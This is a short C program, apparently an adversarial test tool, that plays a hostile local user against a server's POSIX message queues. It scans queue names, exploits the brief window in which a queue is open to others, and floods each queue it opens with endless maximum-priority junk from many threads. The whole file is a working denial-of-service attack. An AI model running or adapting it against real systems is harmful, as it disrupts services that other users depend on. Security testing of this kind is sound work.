/*
 * mq_intruder NAME THREADS: a hostile user. Tries all names of guest lanes for those that exist,
 * and watches for one of the server of NAME that it may open, in the moment that it is open to
 * others; opens it, and lets so many threads send garbage there for ever, with the highest
 * priority, asleep while it is full. Then it goes on watching, up to 64 lanes.
 */
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#define LANES        4096
#define LOOKS        500 /* at those that exist, before all are tried again */
#define OPENED_MOST  64
#define MAX_PRIORITY 32767

static void *flood(void *argument)
{
    mqd_t queue = (mqd_t)(intptr_t)argument;
    while (mq_send(queue, "garbage", 8, MAX_PRIORITY) == 0 || errno == EINTR)
        ;
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 1;
    unsigned long threads = strtoul(argv[2], NULL, 10);
    static ino_t opened[LANES];
    static bool exists[LANES];
    for (unsigned count = 0, lane = 0, look = 0; count < OPENED_MOST; lane++) {
        if (lane == LANES) {
            lane = 0;
            look = (look + 1) % LOOKS;
        }
        if (look != 0 && !exists[lane])
            continue;
        char name[256];
        snprintf(name, sizeof name, "%s.g%u", argv[1], lane);
        mqd_t queue = mq_open(name, O_WRONLY | O_CLOEXEC);
        struct stat facts;
        exists[lane] = queue != (mqd_t)-1 || errno == EACCES;
        if (queue == (mqd_t)-1)
            continue;
        if (fstat((int)queue, &facts) != 0 || facts.st_ino == opened[lane]) {
            mq_close(queue);
            continue;
        }
        opened[lane] = facts.st_ino;
        printf("opened %s\n", name);
        fflush(stdout);
        count++;
        pthread_t thread;
        for (unsigned long i = 0; i < threads; i++)
            if (pthread_create(&thread, NULL, flood, (void *)(intptr_t)queue) != 0)
                return 1;
    }
    return 0;
}
